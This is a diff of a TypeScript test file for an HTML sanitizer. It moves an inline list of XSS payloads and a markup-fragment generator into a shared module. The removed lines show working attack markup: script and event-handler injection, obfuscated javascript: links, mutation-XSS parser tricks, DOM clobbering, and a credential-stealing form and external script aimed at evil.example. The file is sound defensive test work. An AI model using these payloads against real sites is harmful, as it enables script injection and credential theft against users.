@@ -6,6 +6,7 @@ import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
 import { describe, expect, it } from 'vitest';
 import { decodeReferences, sanitizeHtml } from '../../../src/core/sanitize-html.ts';
 import { ALLOWED_ATTR, ALLOWED_TAGS, isSafeHttpUrl, LINK_REL, LINK_TARGET } from '../../../src/core/sanitize-policy.ts';
+import { HOSTILE_HTML, hostileMarkup } from '../../hostile-html.ts';
 
 type Node = DefaultTreeAdapterMap['node'];
 type Element = DefaultTreeAdapterMap['element'];
@@ -41,67 +42,9 @@ function holes(html: string): string[] {
   return found;
 }
 
-// Hostile markup an alert may carry: script, handlers, scheme tricks, parser differentials (mutation XSS), clobbering.
-const HOSTILE = [
-  '<script>window.__pwned=1</script>',
-  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
-  '<img src=x onerror="window.__pwned=2">',
-  '<IMG SRC="javascript:alert(1);">',
-  '<svg onload="window.__pwned=3"><circle r=1></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg/onload=alert(1)>',
-  '<a href="javascript:window.__pwned=4">js link</a>',
-  '<a href="JaVaScRiPt:window.__pwned=5">mixed case</a>',
-  '<a href="java&#x09;script:window.__pwned=6">entity tab</a>',
-  '<a href="java&Tab;script:alert(1)">named tab</a>',
-  '<a href="javascript&colon;alert(1)">named colon</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal</a>',
-  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">hex without semicolons</a>',
-  '<a href=" &#14;  javascript:alert(1)">control prefix</a>',
-  '<a href="vbscript:msgbox(1)">vb</a>',
-  '<a href="data:text/html,<script>window.__pwned=12</script>">data link</a>',
-  '<a href="//evil.example/path">protocol relative</a>',
-  '<a href="/relative">relative</a>',
-  '<a href="https:evil.example">no slashes</a>',
-  '<iframe src="javascript:window.__pwned=7"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<div style="position:fixed;inset:0;z-index:99999" onmouseover="window.__pwned=8">overlay</div>',
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=9">',
-  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
-  '<details open ontoggle="window.__pwned=10">details</details>',
-  '<object data="javascript:window.__pwned=11"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=13>">',
-  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
-  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
-  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
-  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
-  '<title><img title="</title><img src onerror=alert(1)>"></title>',
-  '<style><img title="</style><img src onerror=alert(1)>"></style>',
-  '<template><img src onerror=alert(1)></template>',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[><img src onerror=alert(1)>]]>',
-  '<? foo="><script>alert(1)</script>">',
-  '<a/href="javascript:alert(1)">slash separated</a>',
-  '<a href="https://ok.example" onclick="alert(1)" style="color:red" id="location" name="cookie">clobber</a>',
-  '<p id="__proto__" class="x" data-x="y" aria-label="z">attributes</p>',
-  '<b title="x" title2 =" onmouseover=alert(1) ">spaced</b>',
-  '<td colspan="2 onmouseover=alert(1)">cell</td>',
-  '<a href="https://ok.example/?q=1&amp;r=2">query</a>',
-  '<plaintext><img src onerror=alert(1)>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<b>bold</b> and <a href="https://runbooks.example.com/disk">runbook</a>',
-];
 
 describe('sanitizeHtml', () => {
-  it.each(HOSTILE)('leaves nothing that could run or mislead: %s', (payload) => {
+  it.each(HOSTILE_HTML)('leaves nothing that could run or mislead: %s', (payload) => {
     const clean = sanitizeHtml(payload);
     expect(holes(clean)).toEqual([]);
     // Sanitising again changes nothing: the output already is what the browser will read.
@@ -177,15 +120,9 @@ describe('sanitizeHtml', () => {
   });
 
   it('holds for any mix of markup fragments', () => {
-    const fragment = fc.constantFrom(
-      '<', '>', '/', '"', "'", '=', ' ', '\t', '&', '#', ';', '!', '-', '?', '`',
-      'a', 'b', 'p', 'td', 'svg', 'math', 'style', 'script', 'noscript', 'textarea', 'title', 'template', 'img', 'iframe',
-      'href', 'title', 'onerror', 'onload', 'style', 'src', 'colspan', 'javascript:', 'https://x.example', 'mailto:',
-      '<!--', '-->', '<![CDATA[', ']]>', '&#x6A;', '&Tab;', '&colon;', '&quot;', '&amp;', 'alert(1)', '\u0000', 'é',
-    );
     fc.assert(
-      fc.property(fc.array(fragment, { maxLength: 60 }), (parts) => {
-        const clean = sanitizeHtml(parts.join(''));
+      fc.property(hostileMarkup, (input) => {
+        const clean = sanitizeHtml(input);
         expect(holes(clean)).toEqual([]);
         expect(sanitizeHtml(clean)).toBe(clean);
       }),
